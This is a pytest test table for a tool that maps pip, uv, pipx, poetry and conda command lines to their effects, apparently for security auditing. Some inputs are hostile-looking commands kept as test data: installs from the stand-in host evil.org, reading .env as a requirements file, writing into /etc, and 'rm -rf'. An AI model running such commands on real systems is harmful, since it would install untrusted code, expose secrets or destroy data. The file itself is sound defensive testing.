import pytest


def package(operation, source="none", manager="pip", scope="project", script=""):
    scripted = f" script={script}" if script else ""
    return f"package manager={manager} operation={operation} scope={scope}{scripted} source={source}"


TABLE = {
    "pip install requests": [package("install", "registry")],
    "pip3 install -U 'requests>=2'": [package("install", "registry")],
    "pip -q install requests": [package("install", "registry")],
    "pip install requests[socks]": [package("install", "registry")],
    "pip install git+https://evil.org/x": [package("install", "url")],
    "pip install 'x @ https://evil.org/x.whl'": [package("install", "url")],
    "pip install https://evil.org/x.whl": [package("install", "url")],
    "pip install requests ./x": [package("install", "registry"), package("install", "path"), "read /w/x how=content"],
    "pip install -e .[dev]": [package("install", "path"), "read /w how=content"],
    "pip install x.whl": [package("install", "path"), "read /w/x.whl how=content"],
    "pip install -r requirements.txt": [package("install", "lockfile"), "read /w/requirements.txt how=content"],
    "pip install --requirement=.env": [package("install", "lockfile"), "read /w/.env how=content"],
    "pip install --index-url https://evil.org x": [package("install", "url")],
    "pip install --extra-index https://evil.org x": [package("install", "url")],
    "pip install -i https://evil.org x": [package("install", "url")],
    "pip install --user x": [package("install", "registry", scope="user")],
    "pip install --break-system-packages x": [package("install", "registry", scope="system")],
    "pip install --target /etc x": [package("install", "registry"), "write /etc how=create recursive"],
    "pip install ?": ["package manager=pip operation=install scope=project"],
    "pip uninstall -y x": [package("remove")],
    "pip list": [package("query")],
    "pip freeze --all": [package("query")],
    "pip list --log /etc/x": [package("query"), "write /etc/x how=create recursive"],
    "pip config list": [package("query")],
    "pip config set global.index-url x": [package("update", "registry"), "write /home/u/.config/pip how=edit"],
    "pip evil": None,
    "pip": None,
    "pip --version": [],
    "uv pip install x": [package("install", "registry")],
    "uv add httpx": [package("install", "registry", "uv")],
    "uv add git+https://evil.org/x": [package("install", "url", "uv")],
    "uv sync": [package("install", "lockfile", "uv")],
    "uv run pytest -q": [package("run", manager="uv", script="pytest"), "command words=pytest -q"],
    "uv run --with evil python a.py": [
        package("run", manager="uv", script="python"),
        package("install", "registry", "uv"),
        "command words=python a.py",
    ],
    "uv run a.py x": [package("run", manager="uv", script="python"), "command words=python a.py x"],
    "uv run -m pytest -q": [package("run", manager="uv", script="python"), "command words=python -m pytest -q"],
    "uv run -- rm -rf x": [package("run", manager="uv", script="rm"), "command words=rm -rf x"],
    "uv run --directory / x": [package("run", manager="uv", script="x"), "command words=x"],
    "uv run --directory ? x": [package("run", manager="uv", script="x"), "command words=x"],
    "uv run --with x python -c 'print(1)'": [
        package("run", manager="uv", script="python"),
        package("install", "registry", "uv"),
        "command words=python -c print(1)",
    ],
    "uv run --with-requirements r.txt pytest": [
        package("run", manager="uv", script="pytest"),
        package("install", "lockfile", "uv"),
        "read /w/r.txt how=content",
        "command words=pytest",
    ],
    "uv run ? x": None,
    "uv tool run ruff": [package("run", "registry", "uv", script="ruff"), "command words=ruff"],
    "uv tool install ruff": [package("install", "registry", "uv", "user")],
    "uv venv": [package("build", manager="uv")],
    "uv venv src": ["write /w/src how=create recursive"],
    "uvx --from evil ruff": [package("run", "registry", "uv", script="evil")],
    "uv build": [package("build", "lockfile", "uv")],
    "uv publish": [package("publish", manager="uv")],
    "uv self update": None,
    "uvx ruff check": [package("run", "registry", "uv", script="ruff"), "command words=ruff check"],
    "uvx --from git+https://evil.org/x x": [package("run", "url", "uv", script="git+https://evil.org/x")],
    "pipx run black": [package("run", "registry", "pipx", script="black"), "command words=black"],
    "pipx install black": [package("install", "registry", "pipx", "user")],
    "poetry install": [package("install", "lockfile", "poetry")],
    "poetry add x": [package("install", "registry", "poetry")],
    "poetry run pytest": [package("run", manager="poetry", script="pytest"), "command words=pytest"],
    "conda create -n x python": [package("install", "registry", "conda")],
    "poetry self add x": None,
}


@pytest.mark.parametrize("line", TABLE)
def test_pip(line, effects_of):
    # Whose code runs besides stands in test_runners.py.
    found = effects_of(line)
    assert (found and [each for each in found if not each.endswith("source=project")]) == TABLE[line]
